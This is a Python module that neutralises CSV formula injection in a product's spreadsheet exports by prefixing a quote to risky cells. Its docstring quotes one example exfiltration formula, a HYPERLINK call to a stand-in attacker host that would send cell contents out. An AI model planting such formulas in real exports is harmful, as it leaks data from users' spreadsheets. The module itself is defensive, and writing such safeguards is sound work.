"""CSV exports that a spreadsheet cannot turn into formulas (CSV or formula injection).

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@` as a
formula, and some also after a leading tab or carriage return. A round title such as
`=HYPERLINK("https://evil.example/?"&A1;"Klik")` would then run in the coordinator's spreadsheet
and could send other cells away. Every CSV export of the product writes through `csv_writer`,
which puts a `'` in front of such a cell: spreadsheets show the text as it was typed.

Plain numbers ("-3", "+1,5") are left alone: they are what a gap or a score looks like, and a
number is no formula. Full-width and small forms (＝ ＋ － ＠, ﹦ ﹢ ﹣) are caught as well, because
some spreadsheets fold them to their ASCII form (Unicode NFKC).
"""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\u2212")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise_cell(value: object) -> str:
    """The cell as text, with a `'` in front when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    if not text or PLAIN_NUMBER.fullmatch(text):
        return text
    first = text.lstrip(" ")[:1]
    if first and (first in FORMULA_TRIGGERS
                  or unicodedata.normalize("NFKC", first)[:1] in FORMULA_TRIGGERS):
        return "'" + text
    return text


class SafeCsvWriter:
    """`csv.writer` with every cell passed through `neutralise_cell`."""

    def __init__(self, stream: _Writable, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: _Writable, **options: Any) -> SafeCsvWriter:
    """The one way the product writes CSV (same options as `csv.writer`)."""
    return SafeCsvWriter(stream, **options)
